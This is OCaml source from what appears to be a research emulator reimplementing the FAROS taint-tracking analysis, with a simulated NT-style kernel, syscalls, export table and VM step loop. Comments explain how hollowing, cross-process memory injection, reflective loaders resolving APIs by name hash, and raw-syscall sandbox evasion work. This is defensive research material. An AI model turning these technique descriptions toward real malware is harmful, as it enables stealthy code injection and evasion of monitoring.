      src_pid : Types.pid;
      dst_pid : Types.pid;
      src_paddrs : int list;
      dst_paddrs : int list;
    }
  | Mem_alloc of { by : Types.pid; in_pid : Types.pid; vaddr : int; pages : int }
  | Module_loaded of { pid : Types.pid; image : string; base : int }
  | Context_set of { pid : Types.pid; by : Types.pid; new_pc : int }
  | Popup of { pid : Types.pid; text : string }
  | Debug_print of { pid : Types.pid; text : string }
  | Key_read of { pid : Types.pid; key : int }
  | Audio_read of { pid : Types.pid; bytes : int }
  | Screenshot of { pid : Types.pid; bytes : int }

val name : t -> string
(** Short event-kind name, for filtering and traces. *)
