(** Process-management syscall handlers.

    These are the NT primitives the paper's attacks are built from:
    creating a process suspended, suspending/resuming, and redirecting a
    suspended process's thread context at an injected entry point.  All
    handlers take the caller's PCB and its r1..r5 arguments and return the
    r0 result; errors are [0xFFFFFFFF]. *)

type handler := Kstate.t -> Process.t -> int array -> int

val terminate : handler
val create_process : handler
val suspend : handler
val resume : handler
val get_context : handler
val set_context : handler
val query_information : handler
val get_current_pid : handler
val delay : handler
val get_tick_count : handler

val yield : handler
(** Cooperative yield: ends the current slice so other processes (and the
    slice-boundary inbound network pump) make progress. *)
