(* Virtual-memory syscalls: allocation, cross-process copies, unmapping.

   [write_virtual_memory] is the injection primitive; the kernel performs
   the copy host-side and reports source and destination physical addresses
   so the DIFT engine can apply per-byte copy propagation across address
   spaces — the step that carries netflow provenance from the injecting
   client into the victim. *)

let err = -1 land Faros_vm.Word.mask
let max_copy = 1 lsl 20
let page_size = Faros_vm.Phys_mem.page_size

let with_target (k : Kstate.t) (p : Process.t) pid f =
  let target_pid = if pid = 0 then p.pid else pid in
  match Kstate.proc k target_pid with Some t -> f t | None -> err

(* r1 = pid (0 = self), r2 = size in bytes.  Returns the new region base. *)
let allocate (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      let size = args.(1) in
      if size <= 0 || size > max_copy then err
      else begin
        let pages = (size + page_size - 1) / page_size in
        let vaddr = t.heap_next in
        Faros_vm.Mmu.map k.machine.mmu t.space ~vaddr ~pages;
        (* Leave a guard page between allocations. *)
        t.heap_next <- vaddr + ((pages + 1) * page_size);
        Kstate.emit k (Os_event.Mem_alloc { by = p.pid; in_pid = t.pid; vaddr; pages });
        vaddr
      end)

(* r1 = pid, r2 = dst vaddr (target), r3 = src vaddr (caller), r4 = len *)
let write_virtual_memory (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      let len = args.(3) in
      if len <= 0 || len > max_copy then err
      else
        match
          let data = Kstate.read_guest_bytes k p args.(2) len in
          let src_paddrs = Kstate.phys_range k p args.(2) len in
          Kstate.write_guest_bytes k t args.(1) data;
          let dst_paddrs = Kstate.phys_range k t args.(1) len in
          (src_paddrs, dst_paddrs)
        with
        | src_paddrs, dst_paddrs ->
          Kstate.emit k
            (Os_event.Mem_copy
               { by = p.pid; src_pid = p.pid; dst_pid = t.pid; src_paddrs; dst_paddrs });
          len
        | exception Faros_vm.Mmu.Page_fault _ -> err)

(* r1 = pid, r2 = src vaddr (target), r3 = dst vaddr (caller), r4 = len *)
let read_virtual_memory (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      let len = args.(3) in
      if len <= 0 || len > max_copy then err
      else
        match
          let data = Kstate.read_guest_bytes k t args.(1) len in
          let src_paddrs = Kstate.phys_range k t args.(1) len in
          Kstate.write_guest_bytes k p args.(2) data;
          let dst_paddrs = Kstate.phys_range k p args.(2) len in
          (src_paddrs, dst_paddrs)
        with
        | src_paddrs, dst_paddrs ->
          Kstate.emit k
            (Os_event.Mem_copy
               { by = p.pid; src_pid = t.pid; dst_pid = p.pid; src_paddrs; dst_paddrs });
          len
        | exception Faros_vm.Mmu.Page_fault _ -> err)

(* r1 = pid, r2 = vaddr, r3 = size in bytes.  The hollowing step: unmap the
   benign image from the suspended child. *)
let unmap_view (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      let vaddr = args.(1) land lnot (page_size - 1) in
      let pages = (args.(2) + page_size - 1) / page_size in
      if pages <= 0 then err
      else begin
        Faros_vm.Mmu.unmap k.machine.mmu t.space ~vaddr ~pages;
        Kstate.emit k (Os_event.Proc_unmapped { pid = t.pid; by = p.pid; vaddr; pages });
        0
      end)
