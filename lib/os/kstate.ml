(* Kernel state: everything the syscall handlers and the scheduler touch. *)

type t = {
  machine : Faros_vm.Machine.t;
  fs : Fs.t;
  net : Netstack.t;
  input : Input_dev.t;
  exports : Export_table.t;
  procs : (Types.pid, Process.t) Hashtbl.t;
  mutable next_pid : int;
  mutable subscribers : (Os_event.t -> unit) list;
  mutable tick : int;  (* instructions executed, whole system *)
  mutable run_queue : Types.pid list;
  mutable trace : Faros_obs.Trace.t;  (* syscall-dispatch events *)
  mutable profile : Faros_obs.Profile.t;  (* span profiler; disabled by default *)
}

let create ~local_ip =
  let machine = Faros_vm.Machine.create () in
  let exports = Export_table.build machine in
  {
    machine;
    fs = Fs.create ();
    net = Netstack.create ~local_ip;
    input = Input_dev.create ();
    exports;
    procs = Hashtbl.create 16;
    next_pid = 100;
    subscribers = [];
    tick = 0;
    run_queue = [];
    trace = Faros_obs.Trace.null;
    profile = Faros_obs.Profile.disabled;
  }

let subscribe t f = t.subscribers <- t.subscribers @ [ f ]

let set_trace t trace = t.trace <- trace

(* The machine shares the profiler so [vm.step]/[vm.hooks] spans land in
   the same tree as [kernel.syscall]. *)
let set_profile t profile =
  t.profile <- profile;
  Faros_vm.Machine.set_profile t.machine profile

let emit t ev = List.iter (fun f -> f ev) t.subscribers

let proc t pid = Hashtbl.find_opt t.procs pid

let proc_exn t pid =
  match proc t pid with
  | Some p -> p
  | None -> invalid_arg (Printf.sprintf "no such process %d" pid)

let proc_name t pid =
  match proc t pid with Some p -> p.Process.proc_name | None -> Printf.sprintf "pid%d" pid

(* Process lookup by asid: how analyses translate CR3 back to a process. *)
let proc_by_asid t asid =
  Hashtbl.fold
    (fun _ p acc -> if Process.asid p = asid then Some p else acc)
    t.procs None

let processes t =
  Hashtbl.fold (fun _ p acc -> p :: acc) t.procs []
  |> List.sort (fun a b -> compare a.Process.pid b.Process.pid)

let live_processes t = List.filter Process.is_ready (processes t)

(* Guest-memory helpers used across syscall handlers. *)
let read_guest_bytes t (p : Process.t) vaddr len =
  Faros_vm.Mmu.read_bytes t.machine.mmu ~asid:(Process.asid p) vaddr len

let write_guest_bytes t (p : Process.t) vaddr b =
  Faros_vm.Mmu.write_bytes t.machine.mmu ~asid:(Process.asid p) vaddr b

let read_guest_string t p vaddr len = Bytes.to_string (read_guest_bytes t p vaddr len)

let phys_range t (p : Process.t) vaddr len =
  if len <= 0 then []
  else Faros_vm.Mmu.phys_range t.machine.mmu ~asid:(Process.asid p) vaddr len
