(** Network syscall handlers.  [recv] is the taint source for netflow tags:
    the kernel reports the flow and the physical addresses the payload
    landed on, and FAROS's taint-insertion pass tags every one of those
    bytes. *)

type handler := Kstate.t -> Process.t -> int array -> int

val socket : handler
val connect : handler
val send : handler
val recv : handler

val bind : handler
val listen : handler

val accept : handler
(** Non-blocking: returns a fresh handle or -1; guests poll.  Emits
    [Net_accept] with the accepted connection's flow. *)

val poll : handler
(** Readiness bitmask for a socket handle — lets a server yield instead of
    busy-spinning on non-blocking [accept]/[recv]. *)
