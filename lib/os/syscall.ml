(* Syscall numbers and names.

   ABI: the number goes in r0, arguments in r1..r5, the result comes back in
   r0.  Guest code can either call a kernel-exported API stub (which a
   library-level monitor like the Cuckoo baseline can hook) or issue a raw
   SYSCALL — the evasion the paper's loaders use to stay invisible to
   event-based sandboxes. *)

(* process / memory *)
let nt_terminate_process = 0x01
let nt_create_process = 0x02
let nt_suspend_process = 0x03
let nt_resume_process = 0x04
let nt_allocate_virtual_memory = 0x05
let nt_write_virtual_memory = 0x06
let nt_read_virtual_memory = 0x07
let nt_unmap_view_of_section = 0x08
let nt_get_context_thread = 0x09
let nt_set_context_thread = 0x0A
let nt_query_information_process = 0x0B
let nt_get_current_pid = 0x0C
let nt_delay_execution = 0x0D
let nt_get_tick_count = 0x0E
let nt_yield_execution = 0x0F

(* filesystem *)
let nt_create_file = 0x10
let nt_open_file = 0x11
let nt_read_file = 0x12
let nt_write_file = 0x13
let nt_close = 0x14
let nt_delete_file = 0x15
let nt_query_file_size = 0x16
let nt_set_file_position = 0x17
let nt_query_directory_file = 0x18
let nt_flush_buffers_file = 0x19
let nt_query_attributes_file = 0x1A

(* network *)
let sys_socket = 0x20
let sys_connect = 0x21
let sys_send = 0x22
let sys_recv = 0x23
let sys_bind = 0x24
let sys_listen = 0x25
let sys_accept = 0x26
let sys_poll = 0x27

(* loader *)
let ldr_load_library = 0x30
let ldr_get_proc_address = 0x31

(* devices *)
let dev_key_read = 0x40
let dev_audio_record = 0x41
let dev_screenshot = 0x42
let dev_popup = 0x43
let dbg_print = 0x44

let name sysno =
  match sysno with
  | 0x01 -> "NtTerminateProcess"
  | 0x02 -> "NtCreateProcess"
  | 0x03 -> "NtSuspendProcess"
  | 0x04 -> "NtResumeProcess"
  | 0x05 -> "NtAllocateVirtualMemory"
  | 0x06 -> "NtWriteVirtualMemory"
  | 0x07 -> "NtReadVirtualMemory"
  | 0x08 -> "NtUnmapViewOfSection"
  | 0x09 -> "NtGetContextThread"
  | 0x0A -> "NtSetContextThread"
  | 0x0B -> "NtQueryInformationProcess"
  | 0x0C -> "NtGetCurrentPid"
  | 0x0D -> "NtDelayExecution"
  | 0x0E -> "NtGetTickCount"
  | 0x0F -> "NtYieldExecution"
  | 0x10 -> "NtCreateFile"
  | 0x11 -> "NtOpenFile"
  | 0x12 -> "NtReadFile"
  | 0x13 -> "NtWriteFile"
  | 0x14 -> "NtClose"
  | 0x15 -> "NtDeleteFile"
  | 0x16 -> "NtQueryFileSize"
  | 0x17 -> "NtSetFilePosition"
  | 0x18 -> "NtQueryDirectoryFile"
  | 0x19 -> "NtFlushBuffersFile"
  | 0x1A -> "NtQueryAttributesFile"
  | 0x20 -> "socket"
  | 0x21 -> "connect"
  | 0x22 -> "send"
  | 0x23 -> "recv"
  | 0x24 -> "bind"
  | 0x25 -> "listen"
  | 0x26 -> "accept"
  | 0x27 -> "poll"
  | 0x30 -> "LdrLoadLibrary"
  | 0x31 -> "LdrGetProcAddress"
  | 0x40 -> "DevKeyRead"
  | 0x41 -> "DevAudioRecord"
  | 0x42 -> "DevScreenshot"
  | 0x43 -> "DevPopup"
  | 0x44 -> "DbgPrint"
  | n -> Printf.sprintf "sys_%#x" n

(* Coarse family of a syscall number, keyed off the numbering blocks above.
   Used as the [class] argument of syscall-dispatch trace events. *)
let category sysno =
  if sysno >= 0x01 && sysno <= 0x0F then "process"
  else if sysno >= 0x10 && sysno <= 0x1A then "file"
  else if sysno >= 0x20 && sysno <= 0x27 then "net"
  else if sysno >= 0x30 && sysno <= 0x31 then "loader"
  else if sysno >= 0x40 && sysno <= 0x44 then "device"
  else "unknown"

(* Filesystem-related syscalls: the hooks the paper's file-tag insertion
   driver intercepts (its "26 filesystem-related system calls"). *)
let filesystem_syscalls =
  [
    nt_create_file;
    nt_open_file;
    nt_read_file;
    nt_write_file;
    nt_close;
    nt_delete_file;
    nt_query_file_size;
    nt_set_file_position;
    nt_query_directory_file;
    nt_flush_buffers_file;
    nt_query_attributes_file;
  ]

(* The Windows-API surface exported by the kernel "modules": API name and the
   syscall its stub performs.  [LoadLibraryA], [GetProcAddress] and
   [VirtualAlloc] are the three functions the paper's reflective DLL must
   resolve from the export table. *)
let exported_apis =
  [
    ("LoadLibraryA", ldr_load_library);
    ("GetProcAddress", ldr_get_proc_address);
    ("VirtualAlloc", nt_allocate_virtual_memory);
    ("VirtualAllocEx", nt_allocate_virtual_memory);
    ("WriteProcessMemory", nt_write_virtual_memory);
    ("ReadProcessMemory", nt_read_virtual_memory);
    ("CreateProcessA", nt_create_process);
    ("SuspendThread", nt_suspend_process);
    ("ResumeThread", nt_resume_process);
    ("GetThreadContext", nt_get_context_thread);
    ("SetThreadContext", nt_set_context_thread);
    ("NtUnmapViewOfSection", nt_unmap_view_of_section);
    ("NtQueryInformationProcess", nt_query_information_process);
    ("GetCurrentProcessId", nt_get_current_pid);
    ("Sleep", nt_delay_execution);
    ("GetTickCount", nt_get_tick_count);
    ("ExitProcess", nt_terminate_process);
    ("CreateFileA", nt_create_file);
    ("OpenFileA", nt_open_file);
    ("ReadFile", nt_read_file);
    ("WriteFile", nt_write_file);
    ("CloseHandle", nt_close);
    ("DeleteFileA", nt_delete_file);
    ("GetFileSize", nt_query_file_size);
    ("SetFilePointer", nt_set_file_position);
    ("FindFirstFileA", nt_query_directory_file);
    ("FlushFileBuffers", nt_flush_buffers_file);
    ("GetFileAttributesA", nt_query_attributes_file);
    ("socket", sys_socket);
    ("connect", sys_connect);
    ("send", sys_send);
    ("recv", sys_recv);
    ("bind", sys_bind);
    ("listen", sys_listen);
    ("accept", sys_accept);
    ("MessageBoxA", dev_popup);
    ("GetAsyncKeyState", dev_key_read);
    ("waveInRecord", dev_audio_record);
    ("BitBlt", dev_screenshot);
    ("OutputDebugStringA", dbg_print);
  ]
