(* Filesystem syscalls — the hooks FAROS's file-tag insertion driver
   intercepts.  Reads and writes report the guest-side physical addresses so
   provenance can flow through files (Fig. 4's File 1 hop). *)

let err = -1 land Faros_vm.Word.mask
let max_io = 1 lsl 20

(* r1 = path ptr, r2 = path len.  Creates (truncating) and opens. *)
let create_file (k : Kstate.t) (p : Process.t) args =
  let path = Kstate.read_guest_string k p args.(0) args.(1) in
  let created = not (Fs.exists k.fs path) in
  ignore (Fs.create_file k.fs path);
  Kstate.emit k (Os_event.File_opened { pid = p.pid; path; created });
  Process.alloc_handle p (Hfile { path; pos = 0 })

(* r1 = path ptr, r2 = path len *)
let open_file (k : Kstate.t) (p : Process.t) args =
  let path = Kstate.read_guest_string k p args.(0) args.(1) in
  if not (Fs.exists k.fs path) then err
  else begin
    ignore (Fs.open_file k.fs path);
    Kstate.emit k (Os_event.File_opened { pid = p.pid; path; created = false });
    Process.alloc_handle p (Hfile { path; pos = 0 })
  end

let with_file (p : Process.t) h f =
  match Process.find_handle p h with
  | Some (Hfile fh) -> f fh
  | Some (Hsock _ | Hproc _) | None -> err

(* r1 = handle, r2 = buf, r3 = len.  Returns bytes read. *)
let read_file (k : Kstate.t) (p : Process.t) args =
  with_file p args.(0) (fun fh ->
      let len = args.(2) in
      if len < 0 || len > max_io then err
      else if not (Fs.exists k.fs fh.path) then err
      else begin
        let f = Fs.find k.fs fh.path in
        let data = Fs.read f ~offset:fh.pos ~len in
        let n = Bytes.length data in
        if n > 0 then begin
          Kstate.write_guest_bytes k p args.(1) data;
          Kstate.emit k
            (Os_event.File_read
               {
                 pid = p.pid;
                 path = fh.path;
                 version = f.version;
                 offset = fh.pos;
                 dst_paddrs = Kstate.phys_range k p args.(1) n;
               });
          fh.pos <- fh.pos + n
        end;
        n
      end)

(* r1 = handle, r2 = buf, r3 = len.  Returns bytes written. *)
let write_file (k : Kstate.t) (p : Process.t) args =
  with_file p args.(0) (fun fh ->
      let len = args.(2) in
      if len < 0 || len > max_io then err
      else if not (Fs.exists k.fs fh.path) then err
      else begin
        let f = Fs.find k.fs fh.path in
        let data = Kstate.read_guest_bytes k p args.(1) len in
        Fs.write f ~offset:fh.pos data;
        Kstate.emit k
          (Os_event.File_write
             {
               pid = p.pid;
               path = fh.path;
               version = f.version;
               offset = fh.pos;
               src_paddrs = Kstate.phys_range k p args.(1) len;
             });
        fh.pos <- fh.pos + len;
        len
      end)

(* r1 = handle; closes files, sockets and process handles alike. *)
let close (k : Kstate.t) (p : Process.t) args =
  match Process.find_handle p args.(0) with
  | Some (Hsock sid) ->
    (* Capture the flow before the netstack forgets it: connected sockets
       announce their quiescence so incremental graph builders can retire
       the flow's subgraph. *)
    let flow = Netstack.flow_of k.net sid in
    Netstack.close k.net sid;
    Process.close_handle p args.(0);
    Option.iter
      (fun flow -> Kstate.emit k (Os_event.Net_closed { pid = p.pid; flow }))
      flow;
    0
  | Some (Hfile _ | Hproc _) ->
    Process.close_handle p args.(0);
    0
  | None -> err

(* r1 = path ptr, r2 = path len *)
let delete_file (k : Kstate.t) (p : Process.t) args =
  let path = Kstate.read_guest_string k p args.(0) args.(1) in
  match Fs.delete k.fs path with
  | () ->
    Kstate.emit k (Os_event.File_deleted { pid = p.pid; path });
    0
  | exception Fs.No_such_file _ -> err

(* r1 = handle *)
let query_size (k : Kstate.t) (p : Process.t) args =
  with_file p args.(0) (fun fh ->
      if Fs.exists k.fs fh.path then Fs.size k.fs fh.path else err)

(* r1 = handle, r2 = pos *)
let set_position (_ : Kstate.t) (p : Process.t) args =
  with_file p args.(0) (fun fh ->
      if args.(1) < 0 then err
      else begin
        fh.pos <- args.(1);
        0
      end)

(* Number of files in the filesystem (a stand-in for directory listing). *)
let query_directory (k : Kstate.t) (_ : Process.t) _ = List.length (Fs.list k.fs)

let flush_buffers (_ : Kstate.t) (_ : Process.t) _ = 0

(* r1 = path ptr, r2 = path len; 1 if the file exists. *)
let query_attributes (k : Kstate.t) (p : Process.t) args =
  let path = Kstate.read_guest_string k p args.(0) args.(1) in
  if Fs.exists k.fs path then 1 else 0
