(** Kernel state: everything the syscall handlers and the scheduler
    touch. *)

type t = {
  machine : Faros_vm.Machine.t;
  fs : Fs.t;
  net : Netstack.t;
  input : Input_dev.t;
  exports : Export_table.t;
  procs : (Types.pid, Process.t) Hashtbl.t;
  mutable next_pid : int;
  mutable subscribers : (Os_event.t -> unit) list;
  mutable tick : int;  (** instructions executed, whole system *)
  mutable run_queue : Types.pid list;
  mutable trace : Faros_obs.Trace.t;
      (** sink for syscall-dispatch events; the disabled sink by default *)
  mutable profile : Faros_obs.Profile.t;
      (** span profiler; the disabled profiler by default *)
}

val create : local_ip:Types.Ip.t -> t

val subscribe : t -> (Os_event.t -> unit) -> unit
val emit : t -> Os_event.t -> unit

val set_trace : t -> Faros_obs.Trace.t -> unit
(** Point the kernel's structured-event sink somewhere (see
    {!Faros_obs.Trace}); syscall dispatch emits one event per call. *)

val set_profile : t -> Faros_obs.Profile.t -> unit
(** Attach a span profiler to the kernel {e and} its machine: syscall
    dispatch runs under [kernel.syscall], instruction execution under
    [vm.step]/[vm.hooks]. *)

val proc : t -> Types.pid -> Process.t option
val proc_exn : t -> Types.pid -> Process.t
val proc_name : t -> Types.pid -> string

val proc_by_asid : t -> int -> Process.t option
(** CR3 back to a process: how analyses resolve process tags. *)

val processes : t -> Process.t list
(** All processes (including terminated), sorted by pid. *)

val live_processes : t -> Process.t list

(** {2 Guest-memory helpers shared by syscall handlers} *)

val read_guest_bytes : t -> Process.t -> int -> int -> Bytes.t
val write_guest_bytes : t -> Process.t -> int -> Bytes.t -> unit
val read_guest_string : t -> Process.t -> int -> int -> string

val phys_range : t -> Process.t -> int -> int -> int list
(** Physical addresses of a guest range (empty for non-positive length). *)
