(* The kernel region and its export table.

   The kernel's API stubs and export directory live in physical frames
   shared into every process address space at 0x8000_0000+, mirroring how
   Windows maps ntdll/kernel32 everywhere.  The export directory is the
   memory the paper's export-table tag covers: an array of
   (name-hash, function-pointer) entries that reflective loaders walk to
   resolve LoadLibraryA / GetProcAddress / VirtualAlloc without asking the
   OS.  FAROS taints the function-pointer words; [pointer_paddrs] hands
   their physical addresses to the taint-insertion pass. *)

let kernel_base = 0x80000000
let kernel_stub_pages = 4
let export_dir_vaddr = 0x80100000
let export_dir_pages = 1

(* djb2: the name hash reflective payloads embed as constants (standing in
   for the ROR13 hashes of real shellcode). *)
let hash_name s =
  let h = ref 5381 in
  String.iter (fun c -> h := ((!h * 33) + Char.code c) land 0xFFFFFFFF) s;
  !h

type t = {
  exports : (string * int) list;  (* API name -> stub vaddr *)
  stub_frames : int list;  (* pfns of the stub code region *)
  dir_frames : int list;  (* pfns of the export directory *)
  pointer_paddrs : int list;  (* physical addrs of every pointer byte *)
  pointers_by_name : (string * int list) list;  (* per exported function *)
  stub_span : int;  (* bytes of stub code *)
  space : Faros_vm.Mmu.space;  (* the kernel's own view *)
}

let in_kernel vaddr = vaddr >= kernel_base

(* Stub code: [mov r0, sysno; syscall; ret] per API, assembled into the
   shared kernel region. *)
let build (machine : Faros_vm.Machine.t) =
  let mmu = machine.mmu in
  let space = Faros_vm.Mmu.create_space mmu ~name:"kernel" in
  Faros_vm.Mmu.map mmu space ~vaddr:kernel_base ~pages:kernel_stub_pages;
  Faros_vm.Mmu.map mmu space ~vaddr:export_dir_vaddr ~pages:export_dir_pages;
  let items =
    List.concat_map
      (fun (api, sysno) ->
        [
          Faros_vm.Asm.Label api;
          Faros_vm.Asm.I (Faros_vm.Isa.Mov_ri (Faros_vm.Isa.r0, sysno));
          Faros_vm.Asm.I Faros_vm.Isa.Syscall;
          Faros_vm.Asm.I Faros_vm.Isa.Ret;
        ])
      Syscall.exported_apis
  in
  let prog = Faros_vm.Asm.assemble ~origin:kernel_base items in
  Faros_vm.Mmu.write_bytes mmu ~asid:space.asid kernel_base prog.code;
  let exports =
    List.map (fun (api, _) -> (api, Faros_vm.Asm.lookup prog api)) Syscall.exported_apis
  in
  (* Export directory: count, then (hash, pointer) pairs. *)
  let w32 vaddr v = Faros_vm.Mmu.write ~width:4 mmu ~asid:space.asid vaddr v in
  w32 export_dir_vaddr (List.length exports);
  List.iteri
    (fun i (api, addr) ->
      let entry = export_dir_vaddr + 4 + (8 * i) in
      w32 entry (hash_name api);
      w32 (entry + 4) addr)
    exports;
  let pointers_by_name =
    List.mapi
      (fun i (api, _) ->
        let ptr_vaddr = export_dir_vaddr + 4 + (8 * i) + 4 in
        (api, Faros_vm.Mmu.phys_range mmu ~asid:space.asid ptr_vaddr 4))
      exports
  in
  let pointer_paddrs = List.concat_map snd pointers_by_name in
  {
    exports;
    stub_frames =
      Faros_vm.Mmu.frames_of space ~vaddr:kernel_base ~pages:kernel_stub_pages;
    dir_frames =
      Faros_vm.Mmu.frames_of space ~vaddr:export_dir_vaddr ~pages:export_dir_pages;
    pointer_paddrs;
    pointers_by_name;
    stub_span = Bytes.length prog.code;
    space;
  }

(* Share the kernel region into a process address space. *)
let map_into t mmu space =
  Faros_vm.Mmu.map_frames mmu space ~vaddr:kernel_base t.stub_frames;
  Faros_vm.Mmu.map_frames mmu space ~vaddr:export_dir_vaddr t.dir_frames

let stub_addr t api =
  match List.assoc_opt api t.exports with
  | Some a -> a
  | None -> raise Not_found

(* Directory layout helpers used by guest payload builders. *)
let entry_count t = List.length t.exports
let entries_vaddr = export_dir_vaddr + 4
