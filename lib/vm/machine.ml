(* The machine: physical memory, its MMU, and the translation-block cache.

   CPUs (one per guest thread of control, managed by the kernel's scheduler)
   execute against the shared machine.  Execution hooks let whole-system
   analyses — the FAROS plugin in particular — observe every instruction,
   in the same position PANDA's instrumentation occupies over QEMU.

   [step] prefers the TB cache: a cursor remembers the block and entry the
   last step executed, so straight-line code costs one validity check per
   instruction; falling off the cursor costs a hashtable lookup; a cold pc
   costs one decode of the whole run.  Any of those failing (or the cache
   being disabled via FAROS_NO_TBCACHE) falls back to the uncached
   fetch/decode interpreter, whose effects the cached path reproduces
   byte-identically. *)

type t = {
  mem : Phys_mem.t;
  mmu : Mmu.t;
  mutable hooks : (Cpu.t -> Cpu.effect -> unit) array;
  tb : Tb_cache.t;
  mutable tb_enabled : bool;
  mutable dift_fast : bool;
  mutable cur_block : Tb_cache.block option;
  mutable cur_idx : int;
  mutable profile : Faros_obs.Profile.t;
}

(* Process-wide defaults, so the differential harness and CI can force the
   uncached interpreter / always-on propagation without plumbing a flag
   through every layer. *)
let tb_default_enabled = ref (Sys.getenv_opt "FAROS_NO_TBCACHE" = None)
let dift_fast_default_enabled = ref (Sys.getenv_opt "FAROS_NO_DIFTFAST" = None)

let create () =
  let mem = Phys_mem.create () in
  let mmu = Mmu.create mem in
  let tb = Tb_cache.create mmu in
  Mmu.set_smc_hooks mmu
    ~on_code_write:(fun paddr -> Tb_cache.invalidate_paddr tb paddr)
    ~on_mapping_change:(fun asid -> Tb_cache.invalidate_asid tb asid);
  {
    mem;
    mmu;
    hooks = [||];
    tb;
    tb_enabled = !tb_default_enabled;
    dift_fast = !dift_fast_default_enabled;
    cur_block = None;
    cur_idx = 0;
    profile = Faros_obs.Profile.disabled;
  }

let set_profile t p = t.profile <- p

let set_tb_enabled t b =
  t.tb_enabled <- b;
  if not b then begin
    t.cur_block <- None;
    Tb_cache.flush t.tb
  end

(* The fast path only exists on top of cached blocks, so it is effectively
   [dift_fast && tb_enabled]; consumers (the FAROS plugin) read this at
   attach time. *)
let set_dift_fast t b = t.dift_fast <- b
let dift_fast_enabled t = t.dift_fast && t.tb_enabled

let tb_stats t = Tb_cache.stats t.tb
let tlb_stats t = Mmu.tlb_stats t.mmu

let retire_asid t asid = Tb_cache.invalidate_asid t.tb asid

(* Hooks run after each successfully executed instruction, in registration
   order.  Stored as an array snapshot and iterated by index so dispatch
   allocates nothing per instruction. *)
let add_exec_hook t f = t.hooks <- Array.append t.hooks [| f |]
let clear_exec_hooks t = t.hooks <- [||]

let dispatch t cpu eff =
  let hooks = t.hooks in
  for i = 0 to Array.length hooks - 1 do
    (Array.unsafe_get hooks i) cpu eff
  done

let exec_entry t cpu (e : Tb_cache.entry) =
  Cpu.exec ~code_paddrs:e.en_code_paddrs cpu t.mmu ~instr:e.en_instr ~len:e.en_len

let step_cached t (cpu : Cpu.t) =
  let asid = cpu.cr3 and pc = cpu.pc in
  (* The cursor survives as long as execution stays inside the block it
     points at: the block is still valid (no SMC, no mapping change), the
     CPU is still in the same space, and pc matches the next entry —
     a syscall handler or interrupt may have moved it. *)
  let entry =
    match t.cur_block with
    | Some b
      when b.b_valid && b.b_asid = asid
           && t.cur_idx < Array.length b.b_entries
           && (Array.unsafe_get b.b_entries t.cur_idx).en_pc = pc ->
      Tb_cache.record_hit t.tb;
      Some (Array.unsafe_get b.b_entries t.cur_idx)
    | _ -> (
      t.cur_block <- None;
      match Tb_cache.lookup t.tb ~asid ~pc with
      | Some b ->
        Tb_cache.record_hit t.tb;
        t.cur_block <- Some b;
        t.cur_idx <- 0;
        Some b.b_entries.(0)
      | None -> (
        Tb_cache.record_miss t.tb;
        match Tb_cache.translate t.tb ~asid ~pc with
        | Some b ->
          t.cur_block <- Some b;
          t.cur_idx <- 0;
          Some b.b_entries.(0)
        | None -> None))
  in
  match entry with
  | Some e -> (
    match exec_entry t cpu e with
    | Ok _ as r ->
      t.cur_idx <- t.cur_idx + 1;
      r
    | Error _ as r ->
      (* Leave the cursor; pc is unchanged so the re-check next step either
         retries the same entry (same result as the uncached retry) or
         drops a block retired in between. *)
      r)
  | None ->
    (* Translation failed at the very first instruction: fall back to the
       uncached interpreter so the fault is rediscovered byte-identically. *)
    Cpu.step cpu t.mmu

(* Profiled and unprofiled variants are spelled out separately so the
   (default) disabled-profiler path is exactly the pre-instrumentation
   code: one [enabled] branch, no closures, no extra allocation. *)
let step_plain t cpu =
  let r =
    if t.tb_enabled && not cpu.Cpu.halted then step_cached t cpu
    else Cpu.step cpu t.mmu
  in
  match r with
  | Ok eff ->
    dispatch t cpu eff;
    r
  | Error _ -> r

(* Two spans per instruction: [vm.step] is fetch/translate/execute
   (cursor, TB cache, TLB, ALU) and [vm.hooks] is everything attached on
   top — for a FAROS replay, the whole DIFT stack.  The split is the
   exact boundary between "what the hardware would do" and "what the
   analysis costs", which is the number Table V cares about. *)
let step_profiled t cpu =
  let prof = t.profile in
  Faros_obs.Profile.enter prof "vm.step";
  let r =
    if t.tb_enabled && not cpu.Cpu.halted then step_cached t cpu
    else Cpu.step cpu t.mmu
  in
  Faros_obs.Profile.exit prof;
  match r with
  | Ok eff ->
    Faros_obs.Profile.enter prof "vm.hooks";
    dispatch t cpu eff;
    Faros_obs.Profile.exit prof;
    r
  | Error _ -> r

let step t cpu =
  if Faros_obs.Profile.enabled t.profile then step_profiled t cpu
  else step_plain t cpu
