(** Translation-block cache: decode straight-line runs once, execute many.

    Blocks are keyed by [(asid, pc)] and carry pre-decoded instructions
    plus the pre-resolved physical address of every code byte, so a cached
    visit performs no byte fetches and no {!Decode.decode} call.

    Invalidation contract (self-modifying code safety):
    - a store into any frame holding cached code must call
      {!invalidate_paddr} (wired via {!Mmu.set_smc_hooks});
    - any mapping change in a space must call {!invalidate_asid};
    - process exit retires the space's blocks via {!invalidate_asid}.

    Retired blocks flip [b_valid] so cursors holding them drop them. *)

type entry = {
  en_pc : int;
  en_instr : Isa.t;
  en_len : int;
  en_code_paddrs : int array;
}

type summary = {
  su_regs : int;  (** bitmask over [Isa.num_regs] of registers the block
                      names anywhere — operand or effective-address
                      position, read or write.  A write matters because
                      propagation may {e clear} a tainted destination, so
                      the fast path must run whenever a named register is
                      tainted. *)
  su_mem : bool;  (** any load, store, push/pop or call-frame access *)
  su_flags : bool;  (** any flag write (compares) or flag read
                        (conditional jumps) *)
}
(** Per-block taint summary, compiled once at decode time.  Deliberately
    over-approximates the propagation engine's reads and writes: a
    register the engine happens to ignore only costs a spurious slow-path
    run, never a missed propagation.  See docs/dift-engine.md. *)

type block = {
  b_key : int;
  b_asid : int;
  b_entries : entry array;
  b_pfns : int array;  (** distinct frames holding this block's code bytes *)
  b_summary : summary;
  mutable b_valid : bool;
}

type t

type stats = {
  st_hits : int;
  st_misses : int;
  st_invalidations : int;
  st_blocks : int;  (** live blocks right now *)
  st_summarized : int;  (** blocks whose summary was ever compiled *)
}

val max_entries : int

val create : Mmu.t -> t

val translate : t -> asid:int -> pc:int -> block option
(** Decode and register a block starting at [(asid, pc)].  A mid-run fault
    truncates the block; a fault on the first instruction yields [None]
    (caller falls back to the uncached interpreter so faults stay
